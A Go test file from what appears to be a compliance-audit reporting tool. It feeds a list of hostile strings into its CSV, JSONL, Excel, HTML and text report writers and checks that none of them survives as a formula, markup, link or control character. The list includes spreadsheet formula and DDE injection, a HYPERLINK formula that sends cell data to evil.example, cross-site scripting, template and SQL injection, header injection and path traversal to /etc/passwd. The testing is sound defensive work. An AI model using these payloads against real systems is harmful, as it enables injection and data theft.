package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"github.com/icpaudit/icpaudit/checks"
	"github.com/icpaudit/icpaudit/filing"
	"github.com/icpaudit/icpaudit/remedy"
)

// payloads are texts that mean harm to some reader: spreadsheets, browsers,
// terminals, logs, templates. None of them cleans to nothing.
func payloads() []string {
	var all []string
	for _, lead := range []string{"=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "｜", "％"} {
		for _, call := range []string{`HYPERLINK("http://evil.example/?"&A1,"a")`, `cmd|' /C calc'!A0`, `SUM(1+1)*cmd`, `1+1`} {
			all = append(all, lead+call)
		}
	}
	for _, before := range []string{" ", "\t", "\r\n", "\x00", "\ufeff", "\u200b", "\u202e", "'", "\"", ";", "\u00a0", "\u3000"} {
		all = append(all, before+"=1+1", before+"=cmd|'/C calc'!A0")
	}
	return append(all,
		`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`</script><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
		`<iframe srcdoc="<script>alert(1)</script>">`, `<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`,
		`" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, "` onload=alert(1) `", `x" style="background:url(javascript:alert(1))`, `<math><mtext></p><style><img src onerror=alert(1)>`,
		`<meta http-equiv=refresh content="0;url=http://evil.example/">`, `<base href=http://evil.example/>`, `<link rel=stylesheet href=//evil.example/a.css>`,
		`<form action=http://evil.example><input name=x>`, `<!-- -->`, `--><script>alert(1)</script><!--`, `<![CDATA[<script>alert(1)</script>]]>`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&#60;script&#62;alert(1)&#60;/script&#62;`, "<scr\x00ipt>alert(1)</scr\x00ipt>", "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞",
		`{{.}}`, `{{define "finding"}}x{{end}}`, `{{printf "%s" .}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{constructor.constructor('alert(1)')()}}`, `%s%s%s%n%d`, `%!(EXTRA)`,
		"_x003D_1+1", "_x0000_", "_x005F_x003D_", "a\r\nBcc: victim@example.cn", "a\nX-Evil: 1\n\nbody", "a%0d%0aSet-Cookie: x=1", "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
		"\x9b31mred", "a\x7f\b\b\bb", "a\u202Etxt.exe", "a\u2066\u2069b", "a\u200e\u200fb", "a\u061cb", "a\u00adb", "a\U000e0041b", "a\ufffe\uffffb", "a\u2028b\u2029c", "a\x85b", "a\xff\xfeb", "\xed\xa0\x80x",
		"a\nFAKE 2026-11-24 level=error msg=owned", "\u0000\u0001\u0002x", "z̸̢͓a̶l̷g̵o", strings.Repeat("长", 5000), strings.Repeat("<b>", 4000), strings.Repeat("=", 3000), strings.Repeat("\"", 3000),
		"../../../../etc/passwd", `..\..\windows\win.ini`, "CON", "a/b:c*d?e\"f<g>h|i", "'; DROP TABLE findings; --", "1' OR '1'='1", "http://evil.example/", "file:///etc/passwd", "\\\\evil.example\\share", "mailto:a@evil.example",
	)
}

// poisoned is a subject whose every foreign field is the text, its findings,
// and a history and plan that say the same.
func poisoned(text string) (*filing.Subject, []checks.Finding, Extra) {
	service := &filing.Service{Domains: []*filing.Domain{{}}, Apps: []*filing.App{{}}}
	subject := &filing.Subject{Services: []*filing.Service{service}, Row: 1}
	fill(reflect.ValueOf(subject), text)
	service.Number, subject.Name = text+" s", text+" n"
	proofs := []checks.Proof{{What: "icp-number", Want: text, Got: text, Where: text, Excerpt: text, At: night}}
	why := &checks.Note{Code: "unconfirmed", Detail: text}
	var findings []checks.Finding
	for i, o := range []checks.Outcome{checks.Deficient, checks.Suspected, checks.Unverifiable, checks.Error, checks.Pass} {
		scene := []checks.ID{"icp-number-wrong", "icp-number-unlinked", "domain-expired", "site-unreachable", "dns-overseas"}[i]
		f := checks.Finding{
			Key: checks.Key{Scene: scene, Level: checks.LevelItem, Item: service.ItemID(subject, text)}, Subject: subject.ID(), Service: service.ID(subject), Name: text,
			Outcome: o, Proofs: proofs, Advice: []checks.Note{{Code: "certificate", Detail: text}}, Looks: nil,
		}
		if o != checks.Pass {
			f.Why = why
		}
		if o == checks.Deficient || o == checks.Suspected {
			f.Reason = "other-subject"
		}
		findings = append(findings, f)
	}
	extra := Extra{
		States: map[checks.Key]State{findings[1].Key: {Code: "open"}, findings[2].Key: {Code: "waived", Waiver: &Waiver{Reason: text, By: text}}},
		Steps:  []Step{{Number: 1, Operation: "change-page", What: text, Mends: []checks.Key{findings[0].Key}}},
	}
	return subject, findings, extra
}

// fill makes every text that a pointer leads to the text, each list of texts one
// of it. Codes, which have types of their own, stay empty.
func fill(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			fill(v.Elem(), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fill(v.Field(i), text)
			}
		}
	case reflect.Slice:
		if v.Type() == reflect.TypeFor[[]string]() {
			v.Set(reflect.ValueOf([]string{text}))
		}
		for i := range v.Len() {
			fill(v.Index(i), text)
		}
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			v.SetString(text)
		}
	}
}

// poisonedPlan is a plan whose every foreign field is the text.
func poisonedPlan(text string) remedy.Plan {
	refs := []remedy.Ref{{Scene: "icp-number-wrong", Item: text}}
	return remedy.Plan{
		Subject: text,
		Steps: []remedy.Step{{
			ID: 1, Operation: "change-page", Targets: []string{text, text}, At: text, Solves: refs,
			Changes: []remedy.Change{{Field: "name", Item: text, Old: text, New: text}},
		}},
		Questions:  []remedy.Question{{Code: "which-way", Scene: "icp-number-wrong", Items: []string{text}}},
		Considered: []remedy.Alternative{{Scene: "icp-number-wrong", Items: []string{text}}},
		Unsettled:  []remedy.Unsettled{{Scene: "icp-number-wrong", Items: []string{text}, Why: "unconfirmed"}},
		Notes:      []remedy.Note{{Code: "late", Detail: text}},
	}
}

// renderAll writes every format of a book in which each text poisons a
// subject of its own.
func renderAll(t testing.TB, lang string, texts []string) map[string][]byte {
	t.Helper()
	teller := NewTeller(loaded(t), checks.DefaultPolicy(), lang, night)
	dir := filepath.Join(t.TempDir(), "out")
	run := RunInfo{Version: texts[0], Started: night, Inventory: texts[1], Digest: texts[2], Reference: texts[3], Vantage: texts[4], Unknown: texts, Unjudged: texts[:3], History: true}
	book, err := NewBook(dir, Options{Formats: Formats(), Headers: "zh", Issuer: texts[0]}, teller, run)
	if err != nil {
		t.Fatal(err)
	}
	var mistakes []filing.Mistake
	for i, text := range texts {
		subject, findings, extra := poisoned(text)
		if err := book.add(i, subject, findings, poisonedPlan(text), extra); err != nil {
			t.Fatal(err)
		}
		mistakes = append(mistakes, filing.Mistake{File: text, Row: i + 1, Column: text, Value: text, Want: text, Code: "domain-is-ip"})
	}
	if _, err := book.Close(End{Rows: len(texts), Mistakes: slices.Values(mistakes), Ended: night}); err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	if err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		name := filepath.Base(path)
		if strings.Contains(path, "notices") {
			name = name[:4] + filepath.Ext(name)
		}
		files[name], err = os.ReadFile(path)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	return files
}

// numbered makes each text the only one of its kind, behind its harmful beginning.
func numbered(texts []string) []string {
	all := make([]string, len(texts))
	for i, text := range texts {
		all[i] = fmt.Sprintf("%s %03d", text, i)
	}
	return all
}

func harmless(n int) []string { return numbered(slices.Repeat([]string{"x"}, n)) }

// unsafeRune says whether a character must not reach a reader.
func unsafeRune(r rune) bool {
	return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || unicode.Is(unicode.Co, r) || r == '\u2028' || r == '\u2029' || r == '\uFFFE' || r == '\uFFFF'
}

func wantSafe(t *testing.T, where, text string) {
	t.Helper()
	if !utf8.ValidString(text) || strings.ContainsFunc(text, unsafeRune) {
		t.Errorf("%s: %q holds a control, bidirectional or invisible character", where, text)
	}
}

func wantNoFormula(t *testing.T, where, text string) {
	t.Helper()
	first, _ := utf8.DecodeRuneInString(strings.TrimSpace(text))
	if text != "" && strings.ContainsRune("=+-@|%＝＋－＠｜％", first) {
		t.Errorf("%s: %q begins like a formula", where, text)
	}
}

func TestNoPayloadHarmsAnyReader(t *testing.T) {
	texts := numbered(payloads())
	if len(texts) < 100 {
		t.Fatalf("%d payloads, want at least 100", len(texts))
	}
	for _, lang := range []string{"zh", "en"} {
		bad, good := renderAll(t, lang, texts), renderAll(t, lang, harmless(len(texts)))
		if got, want := slices.Sorted(maps.Keys(bad)), slices.Sorted(maps.Keys(good)); !slices.Equal(got, want) {
			t.Fatalf("files %v, want %v", got, want)
		}
		for name, data := range bad {
			switch filepath.Ext(name) {
			case ".csv":
				csvIsSafe(t, data)
			case ".jsonl":
				jsonlIsSafe(t, data)
			case ".xlsx":
				xlsxIsSafe(t, data)
			case ".html":
				htmlIsSafe(t, name, data, good[name])
			case ".txt":
				wantSafe(t, name, strings.ReplaceAll(string(data), "\n", " "))
				if got, want := bytes.Count(data, []byte("\n")), bytes.Count(good[name], []byte("\n")); got != want {
					t.Errorf("%s has %d lines, with a harmless text %d", name, got, want)
				}
			default:
				t.Errorf("%s: no test knows this file", name)
			}
		}
	}
}

func csvIsSafe(t *testing.T, data []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		for _, cell := range row {
			wantSafe(t, fmt.Sprintf("csv row %d", i), cell)
			wantNoFormula(t, fmt.Sprintf("csv row %d", i), cell)
		}
	}
}

func jsonlIsSafe(t *testing.T, data []byte) {
	t.Helper()
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			wantSafe(t, "jsonl", v)
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			for k, e := range v {
				wantSafe(t, "jsonl key", k)
				walk(e)
			}
		}
	}
	for line := range bytes.Lines(data) {
		var v map[string]any
		if err := json.Unmarshal(line, &v); err != nil {
			t.Fatal(err)
		}
		walk(v)
	}
}

func xlsxIsSafe(t *testing.T, data []byte) {
	t.Helper()
	if n := xlsxHoldsNoFormula(t, data); n < 5000 {
		t.Errorf("only %d cells were read back", n)
	}
}

// xlsxHoldsNoFormula reads all cells, and says how many there are.
func xlsxHoldsNoFormula(t *testing.T, data []byte) (n int) {
	t.Helper()
	eachCell(t, data, func(f *excelize.File, sheet, cell, value string) {
		n++
		where := sheet + "!" + cell
		wantSafe(t, where, value)
		wantNoFormula(t, where, value)
		if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
			t.Errorf("%s holds the formula %q (%v)", where, formula, err)
		}
		if ok, target, err := f.GetCellHyperLink(sheet, cell); err != nil || ok && !strings.HasSuffix(target, "'!A1") {
			t.Errorf("%s leads to %q (%v)", where, target, err)
		}
	})
	archive, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range archive.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		// Charts name the cells that they show in elements called f.
		if !strings.HasPrefix(part.Name, "xl/charts/") && bytes.Contains(text, []byte("<f>")) {
			t.Errorf("%s of the workbook holds a formula", part.Name)
		}
		for _, no := range []string{`TargetMode="External"`, "externalLink", "vbaProject", "ddeLink", "oleObject"} {
			if bytes.Contains(text, []byte(no)) {
				t.Errorf("%s of the workbook holds %s", part.Name, no)
			}
		}
	}
	return n
}

// htmlIsSafe wants the page to have the same elements with the same attributes
// as with a harmless text: nothing of a payload became markup.
func htmlIsSafe(t *testing.T, name string, bad, good []byte) {
	t.Helper()
	got, want := shape(t, name, bad), shape(t, name, good)
	for _, tag := range slices.Sorted(maps.Keys(got)) {
		if got[tag] != want[tag] {
			t.Errorf("%s: %d × <%s>, with a harmless text %d", name, got[tag], tag, want[tag])
		}
	}
}

// shape counts the elements of a page, each with the names of its attributes.
func shape(t *testing.T, name string, page []byte) map[string]int {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for n := range root.Descendants() {
		switch n.Type {
		case html.TextNode:
			if n.Parent.Data != "script" && n.Parent.Data != "style" {
				wantSafe(t, name, strings.ReplaceAll(n.Data, "\n", " "))
			}
		case html.CommentNode:
			t.Errorf("%s holds the comment %q", name, n.Data)
		case html.ElementNode:
			tag := n.Data
			for _, a := range n.Attr {
				tag += " " + a.Key
				wantSafe(t, name, a.Val)
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "src" || a.Key == "href" && !strings.HasPrefix(a.Val, "#") {
					t.Errorf("%s: <%s> has %s=%q", name, n.Data, a.Key, a.Val)
				}
			}
			count[tag]++
		}
	}
	return count
}

// A cut is visible wherever a text was cut.
func TestEveryWriterShowsTheCut(t *testing.T) {
	texts := harmless(5)
	texts[0] = strings.Repeat("长", 9000)
	for name, data := range renderAll(t, "zh", texts) {
		if filepath.Ext(name) == ".xlsx" {
			data = dump(t, data)
		}
		if strings.HasPrefix(name, "findings") && !bytes.Contains(data, []byte(cut)) {
			t.Errorf("%s shows no cut", name)
		}
		if bytes.Contains(data, []byte(strings.Repeat("长", 2001))) {
			t.Errorf("%s holds the whole text", name)
		}
	}
}
